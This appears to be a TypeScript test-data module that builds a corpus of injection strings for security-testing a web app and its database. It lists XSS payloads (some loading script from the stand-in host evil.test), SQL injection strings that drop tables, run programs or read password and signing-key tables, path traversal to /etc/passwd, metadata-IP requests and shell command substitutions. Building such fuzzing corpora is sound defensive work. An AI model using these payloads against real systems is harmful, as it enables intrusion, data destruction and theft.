const MARK = "globalThis.hit=1";

const tags = ["img src=x onerror", "svg onload", "body onload", "input autofocus onfocus", "details open ontoggle", "video src=x onerror", "marquee onstart", "iframe onload", "select autofocus onfocus", "a href=# onmouseover"];
const closings = ["", `">`, "'>", "</title>", "</textarea>", "</script>", "-->", "]]>", "</style>"];
const links = ["javascript:", "JaVaScRiPt:", "java\tscript:", "\u0001javascript:", "data:text/html,<script>", "vbscript:", "//evil.test/", "\\\\evil.test\\"];
const bare = [
  `<script>${MARK}</script>`, `<script src=//evil.test/a.js></script>`, `<style>@import'//evil.test/a.css'</style>`, `<base href=//evil.test>`,
  `<meta http-equiv=refresh content="0;url=javascript:${MARK}">`, `<form action=//evil.test><input name=a>`, `<object data=javascript:${MARK}>`,
  `<math><mtext></form><form><mglyph><style></math><img src onerror=${MARK}>`, `{{constructor.constructor('${MARK}')()}}`, `\${${MARK}}`,
  `';${MARK}//`, `";${MARK}//`, `\\u003cscript\\u003e${MARK}\\u003c/script\\u003e`, `&lt;script&gt;${MARK}&lt;/script&gt;`, `%3Cscript%3E${MARK}%3C/script%3E`,
];
/** Those that a page would run if it took them for markup or code. */
export const xss: readonly string[] = [
  ...closings.flatMap((closing) => tags.map((tag) => `${closing}<${tag}=${MARK}>`)),
  ...links.flatMap((link) => [`${link}${MARK}`, `<a href="${link}${MARK}">clic</a>`]),
  ...bare,
];

const ends = ["--", "#", "/*", ";--", ""];
const conditions = ["' or '1'='1", "' or 1=1", `" or ""="`, "') or ('a'='a", "1 or 1=1", "' and sleep(9)='", "\\' or 1=1"];
const statements = ["drop table cases", "delete from profiles", "update user_roles set role='admin'", "select pg_sleep(9)", "copy cases to program 'id'", "insert into user_roles values (null)"];
const sql = [
  ...conditions.flatMap((condition) => ends.map((end) => `${condition}${end}`)),
  ...statements.flatMap((statement) => [`'; ${statement}; --`, `"; ${statement}; --`, `$$; ${statement}; $$`, `1; ${statement}`]),
  "' union select password from auth.users --", "'||(select secret from auth.signing_keys)||'", "%", "_", "%%%", "\\", "'", "''", "$1", "$$", ":a", "?",
];

const odd = [
  "", " ", "\t\n", "\u0000", "a\u0000b", "\ud800", "\udc00", "\ufeff", "\u202eoirausu", "\u200b", "\uffff", "é".normalize("NFD"), "İ", "ß", "👩‍⚕️", "𝒜", "الاسم", "Z̸̡̢a̵l̶g̷o̵",
  "a".repeat(100), "a".repeat(6_000), "null", "undefined", "NaN", "true", "0", "-1", "1e999", "[object Object]", "__proto__", "constructor", "toString", "../../etc/passwd",
  "..\\..\\windows", "/etc/passwd%00.png", "file:///etc/passwd", "http://169.254.169.254/", "\r\nSet-Cookie: a=1", "\r\n\r\n<html>", "%0d%0aX: y", "(a+)+$", "2026-13-45", "0000-00-00",
  "9999-12-31", "00000000-0000-0000-0000-000000000000", "{\"$gt\":\"\"}", "<%= 7*7 %>", "#{7*7}", "*)(uid=*", "| id", "$(id)", "`id`", "; shutdown", "=cmd|' /C calc'!A0", "@SUM(1+1)", "+1", "-2+3",
];

/** Our own collection of injection texts for pages, the database and other readers. */
export const corpus: readonly string[] = [...new Set([...xss, ...sql, ...odd])];
